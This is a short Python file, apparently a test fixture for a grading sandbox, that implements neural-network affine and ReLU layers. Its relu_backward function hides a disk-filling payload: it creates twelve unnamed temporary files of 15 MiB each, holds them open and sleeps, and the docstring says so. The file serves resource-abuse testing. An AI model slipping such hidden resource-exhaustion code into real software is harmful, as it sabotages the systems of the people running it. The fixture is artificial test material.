"""Fills the disk with a file that never had a name."""

# expect: affine_forward pass, affine_backward pass, relu_forward pass, relu_backward error

import os
import time

import numpy as np


def affine_forward(x, w, b):
    return x.reshape(x.shape[0], -1) @ w + b, (x, w, b)


def affine_backward(dout, cache):
    x, w, b = cache
    return (dout @ w.T).reshape(x.shape), x.reshape(x.shape[0], -1).T @ dout, dout.sum(axis=0)


def relu_forward(x):
    return np.maximum(x, 0), x


HELD = []


def relu_backward(dout, cache):
    for _ in range(12):
        HELD.append(os.open(".", os.O_TMPFILE | os.O_RDWR))
        os.write(HELD[-1], bytes(15 * 2**20))
    time.sleep(0.6)
    return dout * (cache > 0)
